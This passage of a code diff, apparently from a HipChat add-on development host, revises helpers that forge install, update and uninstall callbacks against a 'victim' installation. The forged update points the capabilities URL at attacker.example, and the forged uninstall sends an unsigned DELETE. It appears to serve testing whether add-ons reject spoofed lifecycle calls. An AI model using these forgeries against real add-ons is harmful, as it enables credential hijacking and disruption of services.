@@ -5,38 +5,38 @@ import secrets
 from typing import Any
 
 from devhost.dialects.hipchat.install import payload
+from devhost.dialects.hipchat.installation import HipChatInstallation
 from devhost.dialects.hipchat.uninstall import send_delete
+from devhost.dialects.hipchat.world import HipChatWorld
 from devhost.errors import bad_request
 from devhost.wire.outbound import Answer, Ask
-from devhost.world.installations import Installation
 from devhost.world.jsonvalue import Json
-from devhost.world.state import World
 
 
-async def forge_install(world: World, victim: Installation, **changes: Json) -> Answer:
+async def forge_install(world: HipChatWorld, victim: HipChatInstallation, **changes: Json) -> Answer:
     """Send an install with the victim's client id and another secret; `changes` replace members of it."""
     return await _post(
         world,
         victim,
-        payload(world, victim) | {"oauthSecret": secrets.token_urlsafe(30)} | changes,
+        payload(world.shell, victim) | {"oauthSecret": secrets.token_urlsafe(30)} | changes,
         victim.descriptor.installable.callback_url,
     )
 
 
-async def forge_update(world: World, victim: Installation, **changes: Json) -> Answer:
+async def forge_update(world: HipChatWorld, victim: HipChatInstallation, **changes: Json) -> Answer:
     """Send an update for the victim with another host's capabilities document."""
     document = {"oauthId": victim.client_id, "capabilitiesUrl": "https://attacker.example/v2/capabilities"}
     return await _post(world, victim, document | changes, victim.descriptor.installable.update_callback_url)
 
 
-async def forge_uninstall(world: World, victim: Installation) -> Answer:
+async def forge_uninstall(world: HipChatWorld, victim: HipChatInstallation) -> Answer:
     """Send the unsigned DELETE for a client that is alive."""
     if victim.descriptor.installable.callback_url is None:
         raise bad_request("The add-on has no callbackUrl and so no DELETE to forge")
     return await send_delete(world, victim, purpose="forged uninstall")
 
 
-async def _post(world: World, victim: Installation, body: dict[str, Any], url: str | None) -> Answer:
+async def _post(world: HipChatWorld, victim: HipChatInstallation, body: dict[str, Any], url: str | None) -> Answer:
     if url is None:
         raise bad_request("The add-on has no such callback URL")
     return await world.outbound.send(
